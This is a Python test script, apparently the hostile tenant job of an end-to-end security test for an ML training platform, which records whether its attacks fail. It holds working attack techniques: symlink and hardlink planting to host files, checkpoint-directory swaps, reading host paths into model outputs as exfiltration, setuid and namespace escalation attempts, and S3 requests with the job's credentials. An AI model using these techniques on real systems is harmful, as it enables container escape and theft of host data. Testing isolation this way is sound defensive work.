#!/usr/bin/env python3
"""A hostile tenant's training script (tests/e2e/train_attacks_test.sh).

Usage: attack_job.py ACTION ARGS...   (delivered through a File channel of the tenant's own prefix)

Every action writes the job's real model, /opt/ml/model/model.bin ("model of <job>"), and a report,
/opt/ml/model/report.json, that the test reads on the host (and from the uploaded model). What an
action manages to read from the host goes into the model as well ("loot-*"), as an attacker
exfiltrating through its outputs would, so a leak shows up in the store too.

  env                    the environment it got (names, sha256 of each value), whether a value of
                         TENANT_TOKEN shows in any /proc/PID/cmdline it can read; then hold
  read PATH...           tries to read each host path (file: its bytes; directory: its listing)
  links CANARY DIR [fail]
                         plants symbolic links to host paths in model/, output/data/ and the
                         checkpoint directory next to real files; "fail": also output/failure ->
                         CANARY, and exits 3
  plant WHAT TARGET      plants links to a host path where Sluice writes on the job's next run:
                         WHAT ckpt-file (checkpoints/step-2.ckpt -> TARGET), ckpt-dir
                         (checkpoints/sub -> TARGET), handover (model/, code/, output/data and the
                         checkpoint directory -> TARGET and TARGET/target.txt), all (TARGET a
                         directory: step-2.ckpt -> TARGET/target.txt, sub -> TARGET, and handover's);
                         and tries to change input/ and /opt/ml (each attempt must fail)
  inspect PATH...        lstat of each path (what a rerun left there)
  plant-then-inspect WHAT TARGET PATH...
                         one spec for both runs of a Failed job and its --resume: without the
                         marker checkpoints/planted (the first run) it plants (as plant WHAT TARGET),
                         writes the marker and exits 1; with it (a resumed run, which keeps the
                         checkpoint directory) it runs inspect PATH...; "phase" in the report says which
  fs CHANNEL             lists a file-system channel and the first bytes of each file
  ckpt-swap DIR          checkpoint dir /opt/ml/code/ckpt: writes checkpoints, then replaces a
                         subdirectory and the directory itself by links to the host directory DIR
  privs PORT...          uid, capabilities, no_new_privs, AF_PACKET, setuid(0), TCP connects to
                         127.0.0.1:PORT on the host, the store through AWS_ENDPOINT_URL
  s3get BUCKET/KEY...    GETs each object with the credentials the job was given (AWS_* of a
                         role with StoreRoleArn), through AWS_ENDPOINT_URL: the HTTP status of each
  hash CHANNEL [fail]    sha256 of every file of a File channel; "fail": then exits 1 (a Failed job
                         that can be resumed with the same spec)
  tmp                    statvfs of /tmp and /dev/shm
  hold                   waits (at most 90 s) for /opt/ml/code/go, written by the test on the host
"""
import ctypes
import errno
import hashlib
import json
import os
import socket
import subprocess
import sys
import time

report = {"action": sys.argv[1] if len(sys.argv) > 1 else ""}
job = os.environ.get("TRAINING_JOB_NAME", "job")
os.makedirs("/opt/ml/model", exist_ok=True)
loot_n = 0
exit_code = 0  # set by an action that makes the job fail (after its report is written)


def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) else type(e).__name__


def loot(data):
    """What was read from the host goes into the model, as exfiltration would."""
    global loot_n
    loot_n += 1
    with open(f"/opt/ml/model/loot-{loot_n}", "wb") as f:
        f.write(data)


def attempt(name, fn):
    """Runs fn; the report gets "ok" or the errno name."""
    try:
        fn()
        report.setdefault("attempts", {})[name] = "ok"
    except OSError as e:
        report.setdefault("attempts", {})[name] = err(e)


def hold():
    deadline = time.time() + 90
    while time.time() < deadline and not os.path.exists("/opt/ml/code/go"):
        time.sleep(0.05)
    report["held"] = os.path.exists("/opt/ml/code/go")


def files_of(base):
    out = {}
    for root, _, names in os.walk(base):
        for n in names:
            p = os.path.join(root, n)
            with open(p, "rb") as f:
                out[os.path.relpath(p, base)] = hashlib.sha256(f.read()).hexdigest()
    return out


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def act(action, args):
    global exit_code
    if action == "env":
        env = dict(os.environ)
        report["env"] = {k: hashlib.sha256(v.encode()).hexdigest() for k, v in env.items()}
        token = env.get("TENANT_TOKEN", "").encode()
        seen = []
        for p in os.listdir("/proc"):
            if p.isdigit() and token:
                try:
                    with open(f"/proc/{p}/cmdline", "rb") as f:
                        if token in f.read():
                            seen.append(int(p))
                except OSError:
                    pass
        report["token_in_cmdline"] = seen
        write("/opt/ml/model/ready", "ready\n")
        hold()
    elif action == "read":
        report["read"] = {}
        for p in args:
            try:
                if os.path.isdir(p):
                    names = os.listdir(p)
                    loot("\n".join(names).encode())
                    for n in names:
                        with open(os.path.join(p, n), "rb") as f:
                            loot(f.read())
                    report["read"][p] = "listed"
                else:
                    with open(p, "rb") as f:
                        loot(f.read())
                    report["read"][p] = "read"
            except OSError as e:
                report["read"][p] = err(e)
    elif action == "links":
        canary, secret_dir = args[0], args[1]
        ck = os.environ.get("SM_CHECKPOINT_DIR", "/opt/ml/checkpoints")
        write("/opt/ml/output/data/real.txt", "real output data\n")
        links = [("/opt/ml/model/leak", canary), ("/opt/ml/model/leakdir", secret_dir),
                 ("/opt/ml/model/sub/deep", canary), ("/opt/ml/output/data/leak", canary),
                 ("/opt/ml/output/data/leakdir", secret_dir)]
        if os.path.isdir(ck):  # a job with a CheckpointConfig
            write(f"{ck}/step-1.ckpt", "step 1\n")
            links += [(f"{ck}/leak.ckpt", canary), (f"{ck}/leakdir", secret_dir)]
        for link, target in links:
            os.makedirs(os.path.dirname(link), exist_ok=True)
            attempt("symlink " + link, lambda link=link, target=target: os.symlink(target, link))
        attempt("hardlink canary", lambda: os.link(canary, "/opt/ml/model/hard"))
        if len(args) > 2 and args[2] == "fail":
            attempt("failure link", lambda: os.symlink(canary, "/opt/ml/output/failure"))
            exit_code = 3
        time.sleep(0.5)  # let the checkpoint watcher see the links while the job runs
    elif action == "plant":
        what, target = args[0], args[1]
        ck = os.environ.get("SM_CHECKPOINT_DIR", "/opt/ml/checkpoints")
        # Links where Sluice writes on the next run: the checkpoint restore (a file, a directory)
        # or the hand-over of model/, code/, output/ to the job's uid (chown).
        if what == "ckpt-file":
            links = [(f"{ck}/step-2.ckpt", target)]
        elif what == "ckpt-dir":
            links = [(f"{ck}/sub", target)]
        elif what in ("handover", "all"):  # target is a directory holding target.txt
            attempt("rmdir output/data", lambda: os.rmdir("/opt/ml/output/data"))
            # model/, code/, output/: removed by --resume and --replace (never following a link);
            # the checkpoint directory: kept by --resume and handed over to the job's uid again.
            links = [("/opt/ml/model/own", f"{target}/target.txt"), ("/opt/ml/code/own", f"{target}/target.txt"),
                     ("/opt/ml/model/owndir", target), ("/opt/ml/output/data", target),
                     (f"{ck}/own", f"{target}/target.txt"), (f"{ck}/owndir", target)]
            if what == "all":
                links += [(f"{ck}/step-2.ckpt", f"{target}/target.txt"), (f"{ck}/sub", target)]
        else:
            sys.exit(f"unknown plant {what!r}")
        for link, to in links:
            attempt("symlink " + link, lambda link=link, to=to: os.symlink(to, link))
        # input/ and /opt/ml are root's: none of these may work.
        data = "/opt/ml/input/data/code"
        attempt("write input file", lambda: write(f"{data}/new.py", "x"))
        attempt("symlink in input", lambda: os.symlink(target, f"{data}/lnk"))
        attempt("rename input channel", lambda: os.rename(data, "/opt/ml/code/stolen"))
        attempt("unlink input file", lambda: os.unlink(f"{data}/attack_job.py"))
        attempt("chmod input dir", lambda: os.chmod(data, 0o777))
        attempt("new channel dir", lambda: os.mkdir("/opt/ml/input/data/evil"))
        attempt("symlink in /opt/ml", lambda: os.symlink(target, "/opt/ml/evil"))
        attempt("rename /opt/ml/input", lambda: os.rename("/opt/ml/input", "/opt/ml/code/input"))
        attempt("rename /opt/ml/model", lambda: os.rename("/opt/ml/model", "/opt/ml/code/model"))
    elif action == "plant-then-inspect":
        marker = os.path.join(os.environ.get("SM_CHECKPOINT_DIR", "/opt/ml/checkpoints"), "planted")
        if os.path.lexists(marker):
            report["phase"] = "inspect"
            act("inspect", args[2:])
        else:
            report["phase"] = "plant"
            act("plant", args[:2])
            write(marker, "planted\n")
            exit_code = 1
    elif action == "inspect":
        report["inspect"] = {}
        for p in args:
            try:
                st = os.lstat(p)
                kind = "link" if os.path.islink(p) else "dir" if os.path.isdir(p) else "file"
                info = {"kind": kind, "uid": st.st_uid}
                if kind == "link":
                    info["target"] = os.readlink(p)
                elif kind == "file":
                    with open(p, "rb") as f:
                        info["sha256"] = hashlib.sha256(f.read()).hexdigest()
                report["inspect"][p] = info
            except OSError as e:
                report["inspect"][p] = {"kind": err(e)}
    elif action == "fs":
        base = f"/opt/ml/input/data/{args[0]}"
        report["fs"] = {}
        for root, dirs, names in os.walk(base):
            for n in names + dirs:
                p = os.path.join(root, n)
                try:
                    with open(p, "rb") as f:
                        data = f.read(256)
                    loot(data)
                    report["fs"][os.path.relpath(p, base)] = data.decode(errors="replace")
                except OSError as e:
                    report["fs"][os.path.relpath(p, base)] = err(e)
    elif action == "ckpt-swap":
        secret_dir = args[0]
        ck = "/opt/ml/code/ckpt"
        write(f"{ck}/step-1.ckpt", "step 1\n")
        write(f"{ck}/sub/a.ckpt", "sub a\n")
        time.sleep(1.5)  # uploaded while running
        attempt("swap sub", lambda: (os.rename(f"{ck}/sub", f"{ck}/sub.old"), os.symlink(secret_dir, f"{ck}/sub")))
        time.sleep(1.0)
        attempt("swap dir", lambda: (os.rename(ck, f"{ck}.old"), os.symlink(secret_dir, ck)))
        attempt("write after swap", lambda: write(f"{ck}.old/step-2.ckpt", "step 2\n"))
        time.sleep(1.5)
    elif action == "privs":
        status = {}
        with open("/proc/self/status") as f:
            for line in f:
                k, _, v = line.partition(":")
                status[k] = v.strip()
        report["uid"], report["gid"], report["groups"] = os.getuid(), os.getgid(), os.getgroups()
        report["euid"] = os.geteuid()
        for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
            report[k] = status.get(k)
        try:
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
            s.close()
            report["af_packet"] = "ok"
        except OSError as e:
            report["af_packet"] = err(e)
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            s.close()
            report["raw_icmp"] = "ok"
        except OSError as e:
            report["raw_icmp"] = err(e)
        attempt("setuid 0", lambda: os.setuid(0))
        libc = ctypes.CDLL(None, use_errno=True)

        def unshare_user():
            if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))
        attempt("unshare user namespace", unshare_user)  # refused by the job's seccomp filter
        report["connect"] = {}
        for port in args:
            try:
                with socket.create_connection(("127.0.0.1", int(port)), timeout=3) as s:
                    s.sendall(b"job\n")
                report["connect"][port] = "ok"
            except OSError as e:
                report["connect"][port] = err(e)
        with open("/proc/net/dev") as f:
            report["interfaces"] = sorted(l.split(":")[0].strip() for l in f.readlines()[2:])
        endpoint = os.environ.get("AWS_ENDPOINT_URL", "")
        report["endpoint"] = endpoint
        if endpoint:
            r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10", endpoint],
                               capture_output=True, text=True)
            report["endpoint_http"] = r.stdout
    elif action == "s3get":
        env = os.environ
        report["endpoint"] = env.get("AWS_ENDPOINT_URL", "")
        report["s3"] = {}
        for path in args:
            cmd = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20",
                   "--aws-sigv4", f"aws:amz:{env.get('AWS_REGION', 'us-east-1')}:s3",
                   "--user", f"{env.get('AWS_ACCESS_KEY_ID', '')}:{env.get('AWS_SECRET_ACCESS_KEY', '')}",
                   "-H", f"x-amz-security-token: {env.get('AWS_SESSION_TOKEN', '')}",
                   "-H", "x-amz-content-sha256: UNSIGNED-PAYLOAD", f"{report['endpoint']}/{path}"]
            report["s3"][path] = subprocess.run(cmd, capture_output=True, text=True).stdout
    elif action == "hash":
        report["files"] = files_of(f"/opt/ml/input/data/{args[0]}")
        if len(args) > 1 and args[1] == "fail":
            exit_code = 1
    elif action == "tmp":
        for p in ("/tmp", "/dev/shm"):
            st = os.statvfs(p)
            report[p] = {"total": st.f_blocks * st.f_frsize}
        write("/tmp/x", "x" * (1 << 20))  # writable by the job's uid
        report["tmp_writable"] = os.path.getsize("/tmp/x")
    elif action == "hold":
        write("/opt/ml/model/ready", "ready\n")
        hold()
    else:
        sys.exit(f"unknown action {action!r}")


with open("/opt/ml/model/model.bin", "w") as f:  # there from the start (a held job has a model)
    f.write(f"model of {job}\n")
try:
    act(report["action"], sys.argv[2:])
finally:
    with open("/opt/ml/model/model.bin", "w") as f:
        f.write(f"model of {job}\n")
    with open("/opt/ml/model/report.json", "w") as f:
        json.dump(report, f)
    print(json.dumps(report))
sys.exit(exit_code)
